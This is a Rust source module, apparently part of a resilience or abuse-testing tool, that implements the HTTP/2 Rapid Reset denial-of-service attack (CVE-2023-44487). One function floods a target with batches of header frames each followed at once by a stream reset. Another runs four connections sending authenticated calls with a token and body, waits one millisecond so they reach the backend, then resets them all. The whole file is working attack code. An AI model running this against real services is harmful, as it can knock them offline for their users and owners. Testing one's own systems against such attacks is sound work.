//! Rapid reset (CVE-2023-44487): calls that are taken back as soon as they are made, so that the limit of streams at the
//! same time never counts.

use std::rc::Rc;
use std::time::Duration;

use anyhow::Context as _;
use tokio::task::JoinSet;
use tokio::time::Instant;

use crate::abuse::connection::{Connection, Ended};
use crate::abuse::frames::{self, END_HEADERS};
use crate::abuse::headers;
use crate::abuse::messages::framed;
use crate::abuse::target::Target;

const BATCH_SIZE: u32 = 50;
/// Below the streams that a connection may have.
const FORWARDED: u32 = 90;
const CONNECTIONS: u8 = 4;
/// Time to be forwarded, not to be answered.
const HEAD_START: Duration = Duration::from_millis(1);

/// Head and reset in one breath.
pub(super) async fn at_once(target: &Rc<Target>) -> Result<(), Ended> {
    let mut connection = Connection::open_http2(target, 1, &[]).await?;
    let block = headers::call(&target.spec.method, None);
    let mut stream = 1;
    loop {
        let mut burst = Vec::new();
        for _ in 0..BATCH_SIZE {
            burst.extend(frames::headers(stream, END_HEADERS, &block));
            burst.extend(frames::reset(stream));
            stream += 2;
        }
        connection.send(&burst).await?;
        target.throttle().await.map_err(|_| Ended)?;
    }
}

/// Whole calls of somebody who is signed in, taken back when they are on their way to the service.
pub(super) async fn forwarded(target: &Rc<Target>) -> anyhow::Result<()> {
    let mut connections = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let target = Rc::clone(target);
        connections.spawn_local(async move { super::again(&target, whole_calls).await });
    }
    while let Some(ended) = connections.join_next().await {
        ended.context("an attack broke")??;
    }
    Ok(())
}

async fn whole_calls(target: &Rc<Target>) -> Result<(), Ended> {
    let mut connection = Connection::open_http2(target, 1, &[]).await?;
    let block = headers::call(&target.spec.method, Some(&target.spec.token));
    let body = framed(&target.spec.parent);
    let mut first = 1;
    loop {
        let streams = (0..FORWARDED).map(|n| first + 2 * n);
        let calls: Vec<u8> = streams
            .clone()
            .flat_map(|stream| {
                [
                    frames::headers(stream, END_HEADERS, &block),
                    frames::data(stream, &body),
                ]
            })
            .flatten()
            .collect();
        connection.send(&calls).await?;
        connection.wait(Instant::now() + HEAD_START).await?;
        let resets: Vec<u8> = streams.flat_map(frames::reset).collect();
        connection.send(&resets).await?;
        first += 2 * FORWARDED;
        target.throttle().await.map_err(|_| Ended)?;
    }
}
